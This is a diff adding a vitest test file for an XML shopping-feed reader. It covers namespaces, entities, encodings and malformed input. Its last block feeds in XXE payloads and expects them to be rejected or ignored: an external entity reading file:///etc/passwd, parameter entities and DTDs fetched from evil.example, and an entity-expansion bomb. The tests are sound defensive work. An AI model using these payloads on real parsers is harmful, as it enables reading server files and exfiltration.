@@ -1,0 +1,182 @@
+import { describe, expect, it } from 'vitest'
+import { readText } from './read-text.ts'
+
+const NAMESPACE = 'http://base.google.com/ns/1.0'
+
+const rss = (items: string, prefix = 'g'): string =>
+  `<?xml version="1.0"?>\n<rss version="2.0" xmlns:${prefix}="${NAMESPACE}"><channel><title>Shop</title>` +
+  `<link>https://shop.example/</link>${items}</channel></rss>`
+
+const FIELDS =
+  '<g:gtin>9520001001024</g:gtin><g:price>15.00 EUR</g:price><title>Arne 2</title><link>https://shop.example/arne?a=1&amp;b=2</link>'
+
+const item = (more = ''): string => rss(`<item>${FIELDS}${more}</item>`)
+
+describe('xml feed', () => {
+  it('RSS - cut anywhere - the same items', async () => {
+    const text = rss(`<item>${FIELDS}</item><item>${FIELDS.replace('Arne 2', 'Größe €')}</item>`)
+    for (const pieceBytes of [1, 2, 3, 10, 1_000]) {
+      const { format, products, rejects } = await readText(text, { pieceBytes })
+      expect([format, rejects]).toEqual(['google-xml', []])
+      expect(products.map(({ title }) => title)).toEqual(['Arne 2', 'Größe €'])
+      expect(products[0]?.offers[0]).toMatchObject({
+        price: '15.00',
+        url: 'https://shop.example/arne?a=1&b=2',
+      })
+    }
+  })
+
+  it('Atom - with the link in an attribute - is read', async () => {
+    const text =
+      `<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="${NAMESPACE}"><title>Shop</title><entry>` +
+      '<title type="html">Arne &amp;amp; 2</title><link rel="self" href="https://shop.example/feed"/>' +
+      '<link href=" https://shop.example/arne "/><g:gtin>9520001001024</g:gtin><g:price>15.00 EUR</g:price></entry></feed>'
+    const { products, rejects } = await readText(text)
+    expect(rejects).toEqual([])
+    expect(products).toMatchObject([{ title: 'Arne & 2', offers: [{ url: 'https://shop.example/arne' }] }])
+  })
+
+  it.each([
+    ['under another prefix', rss(`<item>${FIELDS.replaceAll('g:', 'goog:')}</item>`, 'goog')],
+    ['under no prefix', `<rss><channel><item>${FIELDS.replaceAll('g:', '')}</item></channel></rss>`],
+    ['under a prefix that is not declared', `<rss><channel><item>${FIELDS}</item></channel></rss>`],
+    [
+      'as the default',
+      `<rss xmlns="${NAMESPACE}"><channel><item>${FIELDS.replaceAll('g:', '')}</item></channel></rss>`,
+    ],
+  ])('namespace - %s - is known', async (_, text) => {
+    expect(await readText(text)).toMatchObject({ products: [{ title: 'Arne 2' }], rejects: [] })
+  })
+
+  it('namespaces - foreign ones - are passed over', async () => {
+    const more =
+      '<media:title xmlns:media="urn:m">Other</media:title><x:price>1.00 EUR</x:price><atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="self" href="https://other.example/"/>'
+    const { products } = await readText(rss(`<item>${more}${FIELDS}</item>`))
+    const url = 'https://shop.example/arne?a=1&b=2'
+    expect(products).toMatchObject([{ title: 'Arne 2', offers: [{ price: '15.00', url }] }])
+  })
+
+  it('fields - in both namespaces - those of Google hold', async () => {
+    const { products } = await readText(item('<g:title>Better</g:title><g:link></g:link>'))
+    expect(products).toMatchObject([
+      { title: 'Better', offers: [{ url: 'https://shop.example/arne?a=1&b=2' }] },
+    ])
+  })
+
+  it('nested elements - the price of the shipping - are not those of the item', async () => {
+    const shipping = '<g:shipping><g:country>DE</g:country><g:price>4.90 EUR</g:price></g:shipping>'
+    const { products } = await readText(rss(`<item>${shipping}${FIELDS}${shipping}</item>`))
+    expect(products[0]?.offers[0]?.price).toBe('15.00')
+  })
+
+  it('CDATA, comments and repeated elements - are read as what they are', async () => {
+    const more =
+      '<g:title><![CDATA[Arne & <b>2</b>]]> and<!-- not --> more</g:title>' +
+      '<g:additional_image_link>https://img.example/1,2.jpg</g:additional_image_link>' +
+      '<g:additional_image_link>/relative.jpg</g:additional_image_link>'
+    const { products, rejects } = await readText(item(more))
+    expect(products).toMatchObject([{ title: 'Arne & 2 and more', images: ['https://img.example/1,2.jpg'] }])
+    expect(rejects).toMatchObject([{ row: 1, field: 'additional_image_link' }])
+  })
+
+  it('entities - escaped twice, or of HTML - are decoded once more at most', async () => {
+    const { products } = await readText(item('<g:title>a &amp;gt; b &amp;amp;gt; c&nbsp;d</g:title>'))
+    expect(products[0]?.title).toBe('a > b &gt; c d')
+  })
+
+  it('item - without a price - a line with its fields, from 1', async () => {
+    const text = rss(
+      `<item>${FIELDS}</item><item><title>T</title><g:gtin>17</g:gtin><link>https://a.example/</link><g:price/></item>`,
+    )
+    const { rejects } = await readText(text)
+    expect(rejects).toEqual([
+      {
+        row: 2,
+        field: 'price',
+        reason: 'there is no price',
+        raw: '{"title":["T"],"link":["https://a.example/"],"gtin":["17"]}',
+      },
+    ])
+  })
+})
+
+describe('xml feed, encodings', () => {
+  const declared = (encoding: string): string =>
+    item('<g:title>Größe ’5’</g:title>').replace('1.0"', `1.0" encoding="${encoding}"`)
+
+  it.each(['ISO-8859-1', 'windows-1252', 'latin1'])('%s - as declared - is decoded', async (encoding) => {
+    const bytes = Buffer.from(declared(encoding).replaceAll('’', '\u0092'), 'latin1')
+    expect((await readText(bytes, { pieceBytes: 100 })).products[0]?.title).toBe('Größe ’5’')
+  })
+
+  it.each(['utf-8', 'UTF-16'])(
+    'UTF-8 with a byte order mark - declared as %s - is UTF-8',
+    async (encoding) => {
+      expect((await readText(`\ufeff${declared(encoding)}`)).products[0]?.title).toBe('Größe ’5’')
+    },
+  )
+
+  it('UTF-16 - with and without a byte order mark - is decoded', async () => {
+    for (const mark of ['\ufeff', '']) {
+      const bytes = Buffer.from(mark + declared('utf-16'), 'utf16le')
+      expect((await readText(bytes, { pieceBytes: 7 })).products[0]?.title).toBe('Größe ’5’')
+      expect((await readText(Buffer.from(bytes).swap16())).products[0]?.title).toBe('Größe ’5’')
+    }
+  })
+
+  it.each([
+    [
+      'bytes that are none',
+      Buffer.from(declared('utf-8'), 'latin1'),
+      'is not UTF-8 throughout: see bytes 1 to ',
+    ],
+    [
+      'the last character cut off',
+      Buffer.concat([Buffer.from(item()), Buffer.from([0xe2])]),
+      'see its last bytes',
+    ],
+    [
+      'an encoding that nobody knows',
+      Buffer.from(declared('klingon')),
+      'is written in klingon, which cannot be read',
+    ],
+  ])('%s - ImportError', async (_, bytes, message) => {
+    await expect(readText(bytes)).rejects.toMatchObject({
+      code: 'VITRINE_IMPORT_FAILED',
+      message: expect.stringContaining(message),
+    })
+  })
+})
+
+describe('xml feed, broken', () => {
+  it.each([
+    ['cut off', rss(`<item>${FIELDS}`).slice(0, -20), 'unclosed tag'],
+    ['an element closed twice', rss(`<item>${FIELDS}</item></item>`), 'line 2'],
+    ['a bare &', item('<g:brand>A & B</g:brand>'), 'line 2'],
+    ['an attribute without quotes', rss('<item a=b/>'), 'unquoted'],
+    ['U+0000', item('<g:brand>A\u0000B</g:brand>'), 'U+0000'],
+    ['no item', rss(''), 'has no <item> and no <entry>'],
+    ['no element', '<?xml version="1.0"?>', 'root element'],
+    ['deep nesting', '<a>'.repeat(101), 'more than 100 deep'],
+    ['an entity that nobody declared', item('<g:brand>&xxe;</g:brand>'), 'undefined entity'],
+  ])('%s - ImportError', async (_, text, message) => {
+    await expect(readText(text)).rejects.toMatchObject({
+      code: 'VITRINE_IMPORT_FAILED',
+      message: expect.stringContaining(message),
+    })
+  })
+
+  it.each([
+    ['bomb of entities', '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">', '&b;'],
+    ['file of the machine', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;'],
+    ['parameter entity', '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', 'x'],
+  ])('document type - %s - ImportError', async (_, declarations, use) => {
+    const text = item(`<g:brand>${use}</g:brand>`).replace('<rss', `<!DOCTYPE rss [${declarations}]><rss`)
+    await expect(readText(text)).rejects.toThrow('declares a document type of its own')
+  })
+
+  it('document type - without declarations - is passed over, and nothing is fetched', async () => {
+    const text = item().replace('<rss', '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd"><rss')
+    expect((await readText(text)).products).toHaveLength(1)
+  })
+})
